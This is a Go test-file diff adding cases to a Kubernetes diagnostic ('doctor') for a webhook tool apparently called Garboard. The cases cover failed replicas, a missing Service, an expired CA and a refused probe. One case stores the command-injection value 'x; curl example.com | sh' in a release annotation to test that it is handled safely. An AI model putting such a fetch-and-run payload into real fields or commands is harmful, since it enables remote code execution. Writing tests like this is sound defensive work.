@@ -84,6 +84,48 @@ func TestDoctorFindsWhatIsBroken(t *testing.T) {
 			},
 			want: []found{{Warning, "installation", "deployment/garboard-webhook", "one replica", "--replicas=2"}},
 		},
+		"Pods that could not be made": {
+			breaks: func(_ *testing.T, w *world) {
+				w.webhook.Status = appsv1.DeploymentStatus{Conditions: []appsv1.DeploymentCondition{{
+					Type: appsv1.DeploymentReplicaFailure, Status: corev1.ConditionTrue, Message: `serviceaccount "garboard-webhook" not found`,
+				}}}
+			},
+			want: []found{{Failure, "installation", "deployment/garboard-webhook", `none of 2 replicas is ready; serviceaccount "garboard-webhook" not found`, "describe pods"}},
+		},
+		"a Service that leads to no Pod": {
+			breaks: func(_ *testing.T, w *world) { w.endpoints.Endpoints = nil },
+			want:   []found{{Failure, "installation", "service/garboard-webhook", "its selector is another", "install.yaml"}},
+		},
+		"no Service": {
+			breaks: func(_ *testing.T, w *world) { w.more = nil },
+			want:   []found{{Failure, "installation", "service/garboard-webhook", "is not there", "install.yaml"}},
+		},
+		"a release name that is a command": {
+			breaks: func(_ *testing.T, w *world) {
+				w.webhook.Annotations = map[string]string{releaseAnnotation: "x; curl example.com | sh"}
+				w.withoutMutating = true
+			},
+			want: []found{{Failure, "webhooks", mutatingObject, "is not there", "kubectl apply --server-side --force-conflicts -f manifests/install.yaml"}},
+		},
+		"a CA that has expired": {
+			breaks: func(t *testing.T, w *world) {
+				w.now = w.now.Add(87600*time.Hour + time.Minute)
+				w.serverTime, w.lease.Spec.RenewTime.Time, w.lease.ManagedFields[0].Time.Time = w.now, w.now, w.now
+				w.serve(t, w.ca, w.now.Add(1000*time.Hour), "garboard-webhook.garboard.svc")
+			},
+			want: []found{
+				{Failure, "certificates", mutatingObject, "expired", "kubectl -n garboard delete secret garboard-ca garboard-webhook-tls"},
+				{Failure, "certificates", validatingObject, "expired", "kubectl -n garboard delete secret garboard-ca garboard-webhook-tls"},
+				{Failure, "certificates", validatingObject, "expired", "kubectl -n garboard delete secret garboard-ca garboard-webhook-tls"},
+			},
+		},
+		"Garboard that refuses the probe": {
+			breaks: func(_ *testing.T, w *world) {
+				w.admit = func(*appsv1.Deployment) (*appsv1.Deployment, error) {
+					return nil, errors.New(`admission webhook "mutate.garboard.dev" denied the request: no answer of the registry`)
+				}
+			},
+		},
 		"versions apart": {
 			breaks: func(_ *testing.T, w *world) {
 				w.updater.Spec.Template.Spec.Containers[0].Image = "ghcr.io/garboard-dev/garboard:v0.2.0"
